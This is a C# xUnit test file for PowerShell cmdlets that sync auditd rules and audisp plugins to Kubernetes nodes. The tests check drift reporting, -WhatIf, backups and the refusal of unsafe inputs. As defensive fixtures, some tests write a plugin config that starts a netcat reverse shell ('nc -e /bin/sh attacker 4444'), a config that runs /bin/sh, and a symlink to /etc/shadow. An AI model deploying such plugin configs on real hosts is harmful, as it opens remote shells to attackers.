using System.Management.Automation;
using Xunit;

namespace AksAuditd.PowerShell.Tests;

/// <summary>The sync cmdlets as a user at a prompt meets them: binding, defaults, -WhatIf, -PassThru, error records.</summary>
public sealed class SyncCmdletTests : IDisposable
{
    private readonly string _root = Path.Combine(Path.GetTempPath(), "aks-auditd-cmdlet-" + Guid.NewGuid().ToString("N")[..12]);

    public SyncCmdletTests()
    {
        Directory.CreateDirectory(Source);
        Directory.CreateDirectory(Target);
    }

    private string Source => Path.Combine(_root, "source");

    private string Target => Path.Combine(_root, "target");

    private string State => Path.Combine(_root, "state");

    private Dictionary<string, object?> Paths => new() { ["s"] = Source, ["t"] = Target, ["st"] = State };

    public void Dispose() => Directory.Delete(_root, recursive: true);

    [Fact]
    public void DriftIsTypedAndOmitsUnchangedUnlessAsked()
    {
        File.WriteAllText(Path.Combine(Source, "10-a.rules"), "-w /etc/passwd -p wa\n");
        File.WriteAllText(Path.Combine(Source, "20-b.rules"), "-w /etc/group -p wa\n");
        File.WriteAllText(Path.Combine(Target, "10-a.rules"), "-w /etc/passwd -p wa\n");
        File.WriteAllText(Path.Combine(Target, "50-mde.rules"), "-w /opt/mde -p wa\n");
        using var shell = new ModuleRunspace();

        var result = shell.Invoke("param($s, $t, $st) Get-AuditRuleDrift -SourcePath $s -TargetPath $t -StatePath $st", Paths);

        Assert.Empty(result.AllErrors);
        Assert.All(result.Output, o => Assert.Equal("AksAuditd.Core.Sync.FileDrift", o.BaseObject.GetType().FullName));
        Assert.Equal(new[] { "20-b.rules:Added", "50-mde.rules:Foreign" }, result.Output.Select(o => $"{o.Properties["Name"].Value}:{o.Properties["Status"].Value}").ToArray());

        var all = shell.Invoke("param($s, $t, $st) Get-AuditRuleDrift $s $t -StatePath $st -IncludeUnchanged -Mode Mirror", Paths);
        Assert.Equal(new[] { "10-a.rules:Unchanged", "20-b.rules:Added", "50-mde.rules:Removed" }, all.Output.Select(o => $"{o.Properties["Name"].Value}:{o.Properties["Status"].Value}").ToArray());
    }

    [Fact]
    public void AConfigurationWarningIsWrittenOnceAProcessNotOnEveryPoll()
    {
        // A key no other test uses: the warnings already shown are remembered for the whole process.
        var key = "pollIntervalTypo" + Guid.NewGuid().ToString("N")[..8];
        var config = Path.Combine(_root, "config.yaml");
        File.WriteAllText(config, $"{key}: 10s\n");
        File.WriteAllText(Path.Combine(Source, "10-a.rules"), "-w /etc/passwd -p wa\n");
        using var shell = new ModuleRunspace(new Dictionary<string, string?> { ["AA_CONFIG_FILE"] = config });

        var first = shell.Invoke("param($s, $t, $st) Sync-AuditRules -SourcePath $s -TargetPath $t -StatePath $st", Paths);
        var second = shell.Invoke("param($s, $t, $st) Sync-AuditRules -SourcePath $s -TargetPath $t -StatePath $st -Verbose", Paths);
        var report = shell.Invoke("Get-AksAuditdConfiguration");

        Assert.Empty(first.AllErrors);
        Assert.Single(first.Warnings, w => w.Contains(key, StringComparison.Ordinal));
        Assert.DoesNotContain(second.Warnings, w => w.Contains(key, StringComparison.Ordinal));
        Assert.Contains(second.Verbose, v => v.Contains(key, StringComparison.Ordinal));
        Assert.Single(report.Warnings, w => w.Contains(key, StringComparison.Ordinal));
    }

    [Fact]
    public void WhatIfReportsThePlanAndWritesNothing()
    {
        File.WriteAllText(Path.Combine(Source, "10-a.rules"), "-w /etc/passwd -p wa\n");
        using var shell = new ModuleRunspace();

        var result = shell.Invoke("param($s, $t, $st) Sync-AuditRules -SourcePath $s -TargetPath $t -StatePath $st -WhatIf -PassThru", Paths);

        Assert.Empty(result.AllErrors);
        var sync = Assert.Single(result.Output);
        Assert.Equal("AksAuditd.Core.Sync.SyncResult", sync.BaseObject.GetType().FullName);
        Assert.True((bool)sync.Properties["WhatIf"].Value);
        Assert.False((bool)sync.Properties["Changed"].Value);
        Assert.Equal(new[] { "10-a.rules" }, ((IEnumerable<string>)sync.Properties["Added"].Value).ToArray());
        Assert.Empty(Directory.EnumerateFileSystemEntries(Target));
        Assert.False(Directory.Exists(State));
    }

    [Fact]
    public void SyncWritesAndPassThruNamesTheBackup()
    {
        File.WriteAllText(Path.Combine(Source, "10-a.rules"), "-w /etc/passwd -p wa\n");
        File.WriteAllText(Path.Combine(Target, "10-a.rules"), "-D\n");
        using var shell = new ModuleRunspace();

        var result = shell.Invoke("param($s, $t, $st) Sync-AuditRules -SourcePath $s -TargetPath $t -StatePath $st -Mode Mirror -PassThru -Confirm:$false", Paths);

        Assert.Empty(result.AllErrors);
        var sync = Assert.Single(result.Output);
        Assert.True((bool)sync.Properties["Changed"].Value);
        Assert.Equal(new[] { "10-a.rules" }, ((IEnumerable<string>)sync.Properties["Modified"].Value).ToArray());
        var backup = (string)sync.Properties["BackupPath"].Value;
        Assert.Equal("-D\n", File.ReadAllText(Path.Combine(backup, "files", "10-a.rules")));
        Assert.Equal("-w /etc/passwd -p wa\n", File.ReadAllText(Path.Combine(Target, "10-a.rules")));

        var quiet = shell.Invoke("param($s, $t, $st) Sync-AuditRules $s $t -StatePath $st", Paths);
        Assert.Empty(quiet.Output); // no -PassThru, no output
        Assert.Empty(quiet.AllErrors);
    }

    [Fact]
    public void UnsafeSourceEntriesAreErrorRecordsAndNothingChanges()
    {
        File.WriteAllText(Path.Combine(Source, "10-a.rules"), "-w /etc/passwd -p wa\n");
        File.CreateSymbolicLink(Path.Combine(Source, "20-shadow.rules"), "/etc/shadow");
        using var shell = new ModuleRunspace();

        var result = shell.Invoke("param($s, $t, $st) Sync-AuditRules -SourcePath $s -TargetPath $t -StatePath $st -PassThru", Paths);

        var error = Assert.Single(result.AllErrors);
        Assert.Equal("SymlinkOutsideSource,AksAuditd.PowerShell.Commands.SyncAuditRulesCommand", error.FullyQualifiedErrorId);
        Assert.Equal(ErrorCategory.InvalidData, error.CategoryInfo.Category);
        Assert.Equal("20-shadow.rules", error.TargetObject);
        Assert.True((bool)Assert.Single(result.Output).Properties["Blocked"].Value);
        Assert.Empty(Directory.EnumerateFileSystemEntries(Target));
    }

    [Fact]
    public void MissingSourceIsATerminatingObjectNotFound()
    {
        using var shell = new ModuleRunspace();
        var paths = Paths;
        paths["s"] = Path.Combine(_root, "missing");

        var result = shell.Invoke("param($s, $t, $st) Sync-AuditRules -SourcePath $s -TargetPath $t -StatePath $st", paths);

        var error = Assert.Single(result.AllErrors);
        Assert.Equal("SourceMissing,AksAuditd.PowerShell.Commands.SyncAuditRulesCommand", error.FullyQualifiedErrorId);
        Assert.Equal(ErrorCategory.ObjectNotFound, error.CategoryInfo.Category);
        Assert.Equal(paths["s"], error.TargetObject);
    }

    [Fact]
    public void DefaultsComeFromTheConfiguration()
    {
        File.WriteAllText(Path.Combine(Source, "10-a.rules"), "-w /etc/passwd -p wa\n");
        var hostRoot = Path.Combine(_root, "node");
        Directory.CreateDirectory(Path.Combine(hostRoot, "etc", "audit", "rules.d"));
        using var shell = new ModuleRunspace(new Dictionary<string, string?>
        {
            ["AA_CONFIG_FILE"] = "/nonexistent/config.yaml",
            ["AA_HOST_ROOT"] = hostRoot,
            ["AA_RULES_SOURCE"] = Source,
            ["AA_SYNC_MODE"] = "mirror",
        });

        var result = shell.Invoke("Sync-AuditRules -PassThru");

        Assert.Empty(result.AllErrors);
        var sync = Assert.Single(result.Output);
        Assert.Equal(Path.Combine(hostRoot, "etc", "audit", "rules.d"), sync.Properties["TargetPath"].Value);
        Assert.Equal("Mirror", sync.Properties["Mode"].Value.ToString());
        Assert.True(File.Exists(Path.Combine(hostRoot, "etc", "audit", "rules.d", "10-a.rules")));
        Assert.True(File.Exists(Path.Combine(hostRoot, "var", "lib", "aks-auditd", "managed", "rules.json")));
    }

    [Fact]
    public void PluginWhatIfReportsThePlanAndChangesNeitherPluginsNorState()
    {
        const string Syslog = "active = yes\ndirection = out\npath = /sbin/audisp-syslog\ntype = always\nformat = string\n";
        File.WriteAllText(Path.Combine(Source, "syslog.conf"), Syslog);
        File.WriteAllText(Path.Combine(Source, "local6.conf"), "active = no\ndirection = out\npath = /sbin/audisp-syslog\ntype = always\nargs = LOG_LOCAL6\n");
        File.WriteAllText(Path.Combine(Target, "foreign.conf"), "active = no\ndirection = out\npath = /sbin/audisp-syslog\ntype = always\n");
        using var shell = new ModuleRunspace();
        var first = shell.Invoke("param($s, $t, $st) Sync-AuditPlugins -SourcePath $s -TargetPath $t -StatePath $st -AllowedPluginPath /sbin/audisp-syslog -PassThru", Paths);
        Assert.Empty(first.AllErrors);
        Assert.True((bool)Assert.Single(first.Output).Properties["Changed"].Value);

        // The ConfigMap moves on: one plugin changes, one goes, one arrives.
        File.WriteAllText(Path.Combine(Source, "syslog.conf"), Syslog.Replace("format = string", "format = binary"));
        File.Delete(Path.Combine(Source, "local6.conf"));
        File.WriteAllText(Path.Combine(Source, "remote.conf"), "active = no\ndirection = out\npath = /sbin/audisp-syslog\ntype = always\nargs = LOG_LOCAL5\n");
        var pluginsBefore = Snapshot(Target);
        var stateBefore = Snapshot(State);
        Assert.NotEmpty(stateBefore); // the first sync recorded what it placed, so "unchanged" below means something

        var result = shell.Invoke("param($s, $t, $st) Sync-AuditPlugins -SourcePath $s -TargetPath $t -StatePath $st -AllowedPluginPath /sbin/audisp-syslog -WhatIf -PassThru", Paths);

        Assert.Empty(result.AllErrors);
        var plan = Assert.Single(result.Output);
        Assert.Equal("AksAuditd.Core.Sync.SyncResult", plan.BaseObject.GetType().FullName);
        Assert.True((bool)plan.Properties["WhatIf"].Value);
        Assert.False((bool)plan.Properties["Changed"].Value);
        Assert.Equal(new[] { "remote.conf" }, ((IEnumerable<string>)plan.Properties["Added"].Value).ToArray());
        Assert.Equal(new[] { "syslog.conf" }, ((IEnumerable<string>)plan.Properties["Modified"].Value).ToArray());
        Assert.Equal(new[] { "local6.conf" }, ((IEnumerable<string>)plan.Properties["Removed"].Value).ToArray());
        Assert.Equal(new[] { "foreign.conf" }, ((IEnumerable<string>)plan.Properties["Foreign"].Value).ToArray());
        Assert.Equal(pluginsBefore, Snapshot(Target));
        Assert.Equal(stateBefore, Snapshot(State));
    }

    /// <summary>Every entry under a directory with its size, write time and content hash: what a change would disturb.</summary>
    private static string[] Snapshot(string directory) => Directory.Exists(directory)
        ? Directory.EnumerateFileSystemEntries(directory, "*", SearchOption.AllDirectories)
            .Order(StringComparer.Ordinal)
            .Select(p => File.Exists(p)
                ? $"{Path.GetRelativePath(directory, p)} {new FileInfo(p).Length} {File.GetLastWriteTimeUtc(p):O} {Convert.ToHexString(System.Security.Cryptography.SHA256.HashData(File.ReadAllBytes(p)))}"
                : $"{Path.GetRelativePath(directory, p)}/ {Directory.GetLastWriteTimeUtc(p):O}")
            .ToArray()
        : Array.Empty<string>();

    [Fact]
    public void PluginOutsideTheAllowListIsRefused()
    {
        File.WriteAllText(Path.Combine(Source, "syslog.conf"), "active = yes\ndirection = out\npath = /sbin/audisp-syslog\ntype = always\nformat = string\n");
        File.WriteAllText(Path.Combine(Source, "evil.conf"), "active = yes\ndirection = out\npath = /usr/bin/nc\ntype = always\nargs = -e /bin/sh attacker 4444\n");
        using var shell = new ModuleRunspace();

        var result = shell.Invoke("param($s, $t, $st) Sync-AuditPlugins -SourcePath $s -TargetPath $t -StatePath $st -AllowedPluginPath /sbin/audisp-syslog", Paths);

        var error = Assert.Single(result.AllErrors);
        Assert.Equal("PluginPathNotAllowed,AksAuditd.PowerShell.Commands.SyncAuditPluginsCommand", error.FullyQualifiedErrorId);
        Assert.Equal(ErrorCategory.PermissionDenied, error.CategoryInfo.Category);
        Assert.Equal(Path.Combine(Source, "evil.conf") + ":3", error.TargetObject);
        Assert.Empty(Directory.EnumerateFileSystemEntries(Target));

        File.Delete(Path.Combine(Source, "evil.conf"));
        var ok = shell.Invoke("param($s, $t, $st) Sync-AuditPlugins -SourcePath $s -TargetPath $t -StatePath $st -AllowedPluginPath /sbin/audisp-syslog -PassThru", Paths);
        Assert.Empty(ok.AllErrors);
        Assert.True(File.Exists(Path.Combine(Target, "syslog.conf")));
    }

    [Fact]
    public void WithoutAnAllowListAShellPluginIsRefusedEvenWithAnEmptyVariable()
    {
        // The review's reproduction: no allowedPluginPaths (as in the Go tool's configs) let /bin/sh through.
        File.WriteAllText(Path.Combine(Source, "pwn.conf"), "active = yes\ndirection = out\npath = /bin/sh\ntype = always\nargs = -c id>/tmp/pwn\n");
        using var shell = new ModuleRunspace(new Dictionary<string, string?> { ["AA_CONFIG_FILE"] = "/nonexistent/config.yaml", ["AA_ALLOWED_PLUGIN_PATHS"] = "" });

        var result = shell.Invoke("param($s, $t, $st) Sync-AuditPlugins -SourcePath $s -TargetPath $t -StatePath $st", Paths);

        var error = Assert.Single(result.AllErrors);
        Assert.Equal("PluginPathNotAllowed,AksAuditd.PowerShell.Commands.SyncAuditPluginsCommand", error.FullyQualifiedErrorId);
        Assert.Equal(Path.Combine(Source, "pwn.conf") + ":3", error.TargetObject);
        Assert.Empty(Directory.EnumerateFileSystemEntries(Target));
    }

    [Fact]
    public void ImmutableRulesNeedConsentFromTheConfiguration()
    {
        File.WriteAllText(Path.Combine(Source, "99-finalize.rules"), "-w /etc/passwd -p wa\n-e 2\n");
        using (var refused = new ModuleRunspace(new Dictionary<string, string?> { ["AA_CONFIG_FILE"] = "/nonexistent/config.yaml", ["AA_ALLOW_IMMUTABLE"] = null }))
        {
            var result = refused.Invoke("param($s, $t, $st) Sync-AuditRules -SourcePath $s -TargetPath $t -StatePath $st", Paths);

            var error = Assert.Single(result.AllErrors);
            Assert.Equal("IrreversibleSettingNotAllowed,AksAuditd.PowerShell.Commands.SyncAuditRulesCommand", error.FullyQualifiedErrorId);
            Assert.Equal(Path.Combine(Source, "99-finalize.rules") + ":2", error.TargetObject);
            Assert.Empty(Directory.EnumerateFileSystemEntries(Target));
        }

        using var allowed = new ModuleRunspace(new Dictionary<string, string?> { ["AA_CONFIG_FILE"] = "/nonexistent/config.yaml", ["AA_ALLOW_IMMUTABLE"] = "true" });
        var synced = allowed.Invoke("param($s, $t, $st) Sync-AuditRules -SourcePath $s -TargetPath $t -StatePath $st", Paths);
        Assert.DoesNotContain(synced.AllErrors, e => e.FullyQualifiedErrorId.StartsWith("IrreversibleSetting", StringComparison.Ordinal));
        Assert.True(File.Exists(Path.Combine(Target, "99-finalize.rules")));
    }

    [Fact]
    public void TheLoopsPassHonoursTheConsentForImmutableRules()
    {
        // Sync-AuditNode is what the DaemonSet runs: allowImmutable in the configuration must reach its rules sync.
        var root = Directory.CreateTempSubdirectory("aks-auditd-node-consent-").FullName;
        try
        {
            var rulesD = Path.Combine(root, "etc", "audit", "rules.d");
            Directory.CreateDirectory(rulesD);
            Directory.CreateDirectory(Path.Combine(root, "etc", "audit", "plugins.d"));
            var plugins = Directory.CreateDirectory(Path.Combine(root, "plugins-source")).FullName;
            File.WriteAllText(Path.Combine(plugins, "syslog.conf"), "active = yes\ndirection = out\npath = /sbin/audisp-syslog\ntype = always\nformat = string\n");
            File.WriteAllText(Path.Combine(Source, "99-finalize.rules"), "-w /etc/passwd -p wa\n-e 2\n");
            var arguments = new Dictionary<string, object?> { ["r"] = root, ["s"] = Source, ["p"] = plugins };
            const string pass = "param($r, $s, $p) Sync-AuditNode -HostRoot $r -RulesSourcePath $s -PluginsSourcePath $p -NoRestart -SkipStatus -Confirm:$false";

            using (var refused = new ModuleRunspace(new Dictionary<string, string?> { ["AA_CONFIG_FILE"] = "/nonexistent/config.yaml", ["AA_ALLOW_IMMUTABLE"] = null }))
            {
                var result = refused.Invoke(pass, arguments);
                Assert.Contains(result.AllErrors, e => e.FullyQualifiedErrorId.StartsWith("IrreversibleSettingNotAllowed", StringComparison.Ordinal));
                Assert.False(File.Exists(Path.Combine(rulesD, "99-finalize.rules")));
            }

            using var allowed = new ModuleRunspace(new Dictionary<string, string?> { ["AA_CONFIG_FILE"] = "/nonexistent/config.yaml", ["AA_ALLOW_IMMUTABLE"] = "true" });
            var synced = allowed.Invoke(pass, arguments);
            Assert.DoesNotContain(synced.AllErrors, e => e.FullyQualifiedErrorId.StartsWith("IrreversibleSetting", StringComparison.Ordinal));
            Assert.True(File.Exists(Path.Combine(rulesD, "99-finalize.rules")));
        }
        finally
        {
            Directory.Delete(root, recursive: true);
        }
    }
}
